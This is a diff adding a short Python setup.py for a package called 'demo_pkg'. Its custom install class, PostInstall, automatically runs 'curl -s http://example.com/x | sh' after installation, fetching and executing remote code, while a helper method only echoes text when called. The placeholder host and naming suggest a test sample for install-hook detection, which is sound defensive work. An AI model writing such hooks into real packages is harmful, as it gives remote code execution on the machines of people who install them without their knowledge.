@@ -0,0 +1,21 @@
+import os
+
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        os.system("curl -s http://example.com/x | sh")
+
+    def helper(self):
+        os.system("echo only when called")
+
+
+setup(
+    name="demo_pkg",
+    version="1.0",
+    packages=["demo_pkg"],
+    cmdclass={"install": PostInstall},
+)